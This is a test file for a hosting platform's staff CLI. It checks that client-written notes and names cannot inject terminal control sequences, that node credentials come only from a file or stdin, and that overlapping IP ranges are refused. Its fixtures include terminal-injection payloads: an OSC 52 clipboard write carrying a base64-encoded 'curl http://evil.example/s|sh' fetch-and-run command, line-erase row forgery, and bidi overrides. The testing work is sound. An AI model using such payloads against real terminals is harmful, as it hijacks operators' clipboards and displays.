// Security review F2 and F13, and the `ips add` overlap bug: the staff CLI.
// F2: client-written text (request notes, names, reasons, node messages) never reaches the staff
//     terminal as control characters: the API refuses them in notes, and the CLI's output layer
//     turns any that are in the database into visible escapes.
// F13: node credentials come from a file or standard input, never from the command line.

import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { localInputs, noInputs, recordingInputs } from '../src/admin/inputs.ts';
import { readCommandInputs, runAdmin } from '../src/admin/run.ts';
import { runRemote, startAdminSocket } from '../src/admin/socket.ts';
import { seedDemoCatalog } from '../src/core/catalog/demo-seed.ts';
import { freshIp, signedInBrowser } from './support/factories.ts';
import { createTestApp, type TestApp } from './support/harness.ts';

let t: TestApp;
let owner: Awaited<ReturnType<typeof signedInBrowser>>;
let serviceId: number;
const SVC = '/api/v1/client/services/';

before(async () => {
  t = await createTestApp();
  await seedDemoCatalog(t.deps.database.db);
  owner = await signedInBrowser(t, freshIp());
  const db = t.deps.database.db;
  const plan = await db.selectFrom('plans').selectAll().where('label', '=', 'vps-2c-4g').executeTakeFirstOrThrow();
  const location = await db.selectFrom('locations').select('id').where('code', '=', 'mum1').executeTakeFirstOrThrow();
  serviceId = (
    await db
      .insertInto('services')
      .values({
        account_id: owner.account.id,
        plan_id: plan.id,
        order_id: null,
        type: 'vps',
        label: 'probe',
        status: 'active',
        location_id: location.id,
        node_id: null,
        price_paise: plan.price_paise,
        config: '{}',
        credentials_sealed: null,
        period_end: new Date(Date.now() + 30 * 86_400_000),
      })
      .returning('id')
      .executeTakeFirstOrThrow()
  ).id;
});
after(() => t.close());

const admin = (...argv: string[]) => runAdmin(argv, async () => t.deps, 'staff:ravi');

/** The review's probe: an OSC 52 clipboard write, a carriage return and line erase, a forged row. */
const PROBE =
  'please suspend\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3N8c2g=\x07\r\x1b[2K\n99  terminate  approved  1 billing (active)  ops@example.com';

/** No byte a terminal acts on: C0 but the line feed, DEL, C1, bidi overrides and isolates. */
function assertInert(output: string, what: string) {
  const bad = output.match(/(?!\n)[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
  assert.equal(bad, null, `${what} holds U+${bad?.[0]?.codePointAt(0)?.toString(16).padStart(4, '0')}`);
}

describe('F2: client text in the staff terminal', () => {
  test('a service-request note with control characters is 422 validation_failed naming note', async () => {
    for (const note of [PROBE, 'stop\rit', 'ring\x07', 'csi\u009b2J', 'del\x7f', 'tab\there']) {
      for (const action of ['request_suspend', 'request_terminate', 'renew']) {
        const res = await owner.browser.post(SVC, { id: serviceId, action, note }, { csrf: true });
        assert.equal(res.statusCode, 422, `${action} ${JSON.stringify(note)}: ${res.body}`);
        assert.equal(res.json().code, 'validation_failed');
        assert.match(res.json().errors.note, /control characters/);
      }
    }
    const stored = await t.deps.database.db.selectFrom('service_requests').select('id').execute();
    assert.equal(stored.length, 0, 'nothing was stored');
    // Line breaks are allowed in a note (and trimmed at its ends); staff see them as \n.
    const ok = await owner.browser.post(
      SVC,
      { id: serviceId, action: 'request_terminate', note: 'moving to another host\nthanks ' },
      { csrf: true },
    );
    assert.equal(ok.statusCode, 200, ok.body);
    const listed = await admin('requests', 'list');
    assert.match(listed.stdout, /moving to another host\\nthanks/);
    await t.deps.database.db.deleteFrom('service_requests').execute();
  });

  test('a hostile note already in the database: requests list prints no control byte and no forged row', async () => {
    const row = await t.deps.database.db
      .insertInto('service_requests')
      .values({ service_id: serviceId, account_id: owner.account.id, kind: 'suspend', note: PROBE })
      .returning('id')
      .executeTakeFirstOrThrow();
    for (const argv of [
      ['requests', 'list'],
      ['requests', 'list', '--status', 'all'],
    ]) {
      const result = await admin(...argv);
      assert.equal(result.exitCode, 0, result.stderr);
      assertInert(result.stdout, argv.join(' '));
      const lines = result.stdout.trimEnd().split('\n');
      assert.equal(lines.length, 2, `a header and one row:\n${result.stdout}`);
      assert.ok(!lines.some((l) => /^99\s/.test(l)), 'no forged row');
      assert.ok(lines[1]?.startsWith(String(row.id)));
      assert.ok(
        result.stdout.includes(
          'please suspend\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3N8c2g=\\x07\\r\\x1b[2K\\n99',
        ),
        result.stdout,
      );
    }
    // --json stays JSON and gives the note back exactly.
    const json = await admin('requests', 'list', '--json');
    assertInert(json.stdout, 'requests list --json');
    assert.equal(JSON.parse(json.stdout)[0].note, PROBE);
    await t.deps.database.db.deleteFrom('service_requests').execute();
  });

  test('every other place the CLI prints outside text: names, reasons, job details, show lines, errors', async () => {
    const db = t.deps.database.db;
    const hostile = 'x\u202eevil\u2066\x1b[31m\u009b2J\x7f\r\nforged      line';
    // Names refuse control characters at the API but not bidi overrides; a row may predate the rule.
    await db
      .updateTable('accounts')
      .set({ name: hostile, suspended_reason: hostile })
      .where('id', '=', owner.account.id)
      .execute();
    const job = await db
      .insertInto('jobs')
      .values({
        account_id: owner.account.id,
        service_id: serviceId,
        type: 'provision',
        params: JSON.stringify({ error_detail: hostile }),
        status: 'failed',
        error_code: 'node_unreachable',
        error_message: hostile,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db
      .insertInto('service_events')
      .values({ service_id: serviceId, kind: 'note', message: hostile, data: '{}' })
      .execute();
    const runs = [
      ['accounts', 'list'],
      ['accounts', 'show', owner.account.username],
      ['jobs', 'list'],
      ['jobs', 'show', String(job.id)],
      ['services', 'list'],
      ['accounts', 'show', 'nobody\x1b[2J\u009b'],
    ];
    for (const argv of runs) {
      const result = await admin(...argv);
      assertInert(result.stdout, `${argv.join(' ')} stdout`);
      assertInert(result.stderr, `${argv.join(' ')} stderr`);
      assert.ok(!/^forged/m.test(result.stdout), `${argv.join(' ')} forged a line:\n${result.stdout}`);
      const json = await admin(...argv, '--json');
      assertInert(json.stdout, `${argv.join(' ')} --json`);
      JSON.parse(json.stdout);
    }
    const shown = await admin('accounts', 'show', owner.account.username);
    assert.match(shown.stdout, /x\\u202eevil\\u2066\\x1b\[31m\\u009b2J\\x7f\\r\\nforged/);
    const jobShown = await admin('jobs', 'show', String(job.id));
    assert.match(jobShown.stdout, /\\x1b\[31m/);
    assert.equal(JSON.parse((await admin('accounts', 'show', owner.account.username, '--json')).stdout).name, hostile);
  });
});

describe('F13: node credentials never on the command line', () => {
  const dir = mkdtempSync(join(tmpdir(), 'hostplane-cred-'));
  after(() => rmSync(dir, { recursive: true, force: true }));
  const SECRET = '{"token_id":"hp@pve!f13","token_secret":"CANARY-F13-SECRET"}';
  const nodeArgs = (name: string) => [
    'nodes',
    'add',
    name,
    '--kind',
    'proxmox',
    '--location',
    'mum1',
    '--endpoint',
    'https://10.0.0.9:8006',
    '--capacity',
    '2',
  ];
  const stored = async (name: string) => {
    const row = await t.deps.database.db.selectFrom('nodes').selectAll().where('name', '=', name).executeTakeFirst();
    return row ? t.deps.nodes.credentials(row) : null;
  };

  test('inline JSON in --credentials is a usage error that names the two safe ways; nothing is added', async () => {
    const result = await admin(...nodeArgs('pve-inline'), '--credentials', SECRET);
    assert.equal(result.exitCode, 2);
    assert.match(result.stderr, /--credentials-file PATH/);
    assert.match(result.stderr, /--credentials -/);
    assert.doesNotMatch(result.stderr, /CANARY/);
    assert.equal(await stored('pve-inline'), null);
    const none = await admin(...nodeArgs('pve-none'));
    assert.equal(none.exitCode, 2);
    assert.match(none.stderr, /credentials are required/);
    assert.match((await admin('nodes', 'add', '--help')).stdout, /--credentials-file/);
  });

  test('--credentials-file PATH reads a file only its owner can read; a group/world-readable one is refused', async () => {
    const path = join(dir, 'pve.json');
    writeFileSync(path, SECRET, { mode: 0o600 });
    const result = await runAdmin(
      [...nodeArgs('pve-file'), '--credentials-file', path],
      async () => t.deps,
      'staff',
      localInputs(Readable.from([]) as unknown as NodeJS.ReadStream),
    );
    assert.equal(result.exitCode, 0, result.stderr);
    assert.equal((await stored('pve-file'))?.token_secret, 'CANARY-F13-SECRET');

    const open = join(dir, 'open.json');
    writeFileSync(open, SECRET);
    chmodSync(open, 0o644);
    const refused = await runAdmin(
      [...nodeArgs('pve-open'), '--credentials-file', open],
      async () => t.deps,
      'staff',
      localInputs(),
    );
    assert.equal(refused.exitCode, 2);
    assert.match(refused.stderr, /chmod 600/);
    assert.equal(await stored('pve-open'), null);
    const missing = await runAdmin(
      [...nodeArgs('pve-missing'), '--credentials-file', join(dir, 'nope.json')],
      async () => t.deps,
      'staff',
      localInputs(),
    );
    assert.equal(missing.exitCode, 2);
    assert.match(missing.stderr, /cannot read .*ENOENT/);
    writeFileSync(join(dir, 'bad.json'), 'not json', { mode: 0o600 });
    const bad = await runAdmin(
      [...nodeArgs('pve-bad'), '--credentials-file', join(dir, 'bad.json')],
      async () => t.deps,
      'staff',
      localInputs(),
    );
    assert.equal(bad.exitCode, 2);
    assert.match(bad.stderr, /must be a JSON object/);
  });

  test('--credentials - reads the JSON from standard input', async () => {
    const result = await runAdmin(
      [...nodeArgs('pve-stdin'), '--credentials', '-'],
      async () => t.deps,
      'staff',
      localInputs(Readable.from([Buffer.from(SECRET)]) as unknown as NodeJS.ReadStream),
    );
    assert.equal(result.exitCode, 0, result.stderr);
    assert.equal((await stored('pve-stdin'))?.token_secret, 'CANARY-F13-SECRET');
    const both = await runAdmin(
      [...nodeArgs('pve-both'), '--credentials', '-', '--credentials-file', 'x'],
      async () => t.deps,
      'staff',
      noInputs,
    );
    assert.equal(both.exitCode, 2);
  });

  test('through the admin socket (a running embedded server): the CLI reads stdin and the file, the server adds', async () => {
    const socketDir = mkdtempSync(join(tmpdir(), 'hp-sock-'));
    const server = await startAdminSocket(t.deps, socketDir);
    try {
      const path = join(dir, 'remote.json');
      writeFileSync(path, SECRET.replace('CANARY-F13-SECRET', 'CANARY-REMOTE-FILE'), { mode: 0o600 });
      for (const [name, extra, input, expected] of [
        ['pve-remote-stdin', ['--credentials', '-'], Readable.from([SECRET]), 'CANARY-F13-SECRET'],
        ['pve-remote-file', ['--credentials-file', path], Readable.from([]), 'CANARY-REMOTE-FILE'],
      ] as const) {
        const argv = [...nodeArgs(name), ...extra];
        const recording = recordingInputs(localInputs(input as unknown as NodeJS.ReadStream));
        assert.equal(await readCommandInputs(argv, recording.reader), null);
        const result = await runRemote(socketDir, argv, 'staff:ravi', recording.read);
        assert.equal(result.exitCode, 0, result.stderr);
        assert.equal((await stored(name))?.token_secret, expected);
      }
      const inline = [...nodeArgs('pve-remote-inline'), '--credentials', SECRET];
      const refused = await readCommandInputs(inline, recordingInputs(localInputs()).reader);
      assert.equal(refused?.exitCode, 2);
      assert.equal((await runRemote(socketDir, inline, 'staff:ravi')).exitCode, 2);
    } finally {
      await new Promise((resolve) => server.close(resolve));
      rmSync(socketDir, { recursive: true, force: true });
    }
  });
});

describe('ips add over another location', () => {
  test("a range another location owns is refused with the owner's name, exit 1; the same location stays idempotent", async () => {
    for (const code of ['bom1', 'bom2']) {
      const made = await admin('locations', 'add', code, '--name', code, '--city', 'Mumbai');
      assert.equal(made.exitCode, 0, made.stderr);
    }
    const first = await admin('ips', 'add', 'bom1', '100.70.0.0/26', '--json');
    assert.equal(first.exitCode, 0, first.stderr);
    assert.equal(JSON.parse(first.stdout).added, 61);

    const again = await admin('ips', 'add', 'bom1', '100.70.0.0/26');
    assert.equal(again.exitCode, 0, again.stderr);
    assert.match(again.stdout, /0 added, 61 already present/);

    const other = await admin('ips', 'add', 'bom2', '100.70.0.0/26');
    assert.equal(other.exitCode, 1);
    assert.match(other.stderr, /61 addresses belong to location bom1/);
    // A wider range that overlaps: refused whole, naming every owner.
    await admin('ips', 'add', 'mum1', '100.70.0.128/30');
    const wider = await admin('ips', 'add', 'bom2', '100.70.0.0/24', '--json');
    assert.equal(wider.exitCode, 1);
    const body = JSON.parse(wider.stdout);
    assert.equal(body.error, 'conflict');
    assert.match(body.message, /61 addresses belong to location bom1/);
    assert.match(body.message, /1 address belongs to location mum1/);
    const pool = JSON.parse((await admin('ips', 'list', '--json')).stdout) as { location: string }[];
    assert.ok(!pool.some((r) => r.location === 'bom2'), 'nothing was added to bom2');
  });
});
